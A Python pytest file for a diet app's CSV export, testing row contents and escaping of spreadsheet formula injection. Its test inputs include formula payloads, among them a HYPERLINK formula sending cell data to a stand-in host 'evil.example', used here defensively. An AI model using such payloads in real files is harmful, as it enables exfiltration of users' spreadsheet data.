"""CSV: one row a food, safe in a spreadsheet, unknown is empty."""

import csv
import io

import pytest

from dietcare.domain.food import Food
from dietcare.domain.nutrients import Nutrients
from dietcare.export.table import COLUMNS, rows, safe


@pytest.fixture
def read(stream, joined):
    async def read_rows(*meals):
        data = await joined(rows(stream(*meals)))
        assert data.startswith(b"\xef\xbb\xbf")  # Excel reads Korean as such only then
        text = data.decode("utf-8-sig")
        assert text.startswith(",".join(COLUMNS) + "\r\n")
        assert text.endswith("\r\n")
        return list(csv.DictReader(io.StringIO(text, newline="")))

    return read_rows


async def test_a_meal_has_a_row_for_each_food(read, new_meal):
    meal = new_meal(
        Food("현미밥", 210, Nutrients(2, 5.5, 180.25, 0), food_code="D101"), Food("물", 200)
    )
    first, second = await read(meal)
    assert first == {
        "local_date": "2025-11-27",
        "logged_at": "2025-11-27T17:00:00+09:00",
        "time_zone": "Asia/Seoul",
        "meal_type": "breakfast",
        "food": "현미밥",
        "portion_g": "210",
        "sodium_mg": "2",
        "protein_g": "5.5",
        "potassium_mg": "180.25",
        "phosphorus_mg": "0",
        "nutrient_source": "",
        "food_code": "D101",
        "note": "",
        "meal_id": meal.id,
    }
    assert (second["food"], second["sodium_mg"], second["phosphorus_mg"]) == ("물", "", "")


async def test_without_meals_there_are_the_names_of_the_columns(stream, joined):
    data = await joined(rows(stream()))
    assert data.decode("utf-8-sig") == ",".join(COLUMNS) + "\r\n"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        " =1",
        "\u3000=1",
        "＝1",
        "＋1",
        "－1",
        "＠A1",
        "\u200b=1",
        "\ufeff \u2060=1",
        "\u00ad+1",
        "﹦1",
        "\u22121",
        '=HYPERLINK("https://evil.example?"&A1)',
    ],
)
async def test_what_a_spreadsheet_would_run_is_text(read, new_meal, text):
    (row,) = await read(new_meal(Food(text, 1), note=text))
    assert row["food"] == row["note"] == f"'{text}"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("밥;=1", "밥;'=1"),
        (";\u200b =1;+2", ";\u200b '=1;'+2"),
        ("밥\n=1", "밥\n'=1"),
        ("밥\r\n\t@A1", "밥\r\n\t'@A1"),
        ("=1;=2", "'=1;'=2"),
    ],
)
async def test_nor_where_it_divides_lists_by_semicolons(read, new_meal, text, written):
    (row,) = await read(new_meal(Food("밥", 1), note=text))
    assert row["note"] == written


@pytest.mark.parametrize(
    "text", ["밥", "1+1", "a=b", "김치-찌개", "'quoted", '"a", b', "두\n줄", "밥; 국"]
)
async def test_other_text_is_as_it_was(read, new_meal, text):
    (row,) = await read(new_meal(Food("밥", 1), note=text))
    assert row["note"] == text


def test_numbers_are_never_escaped():
    assert safe("12") == "12"
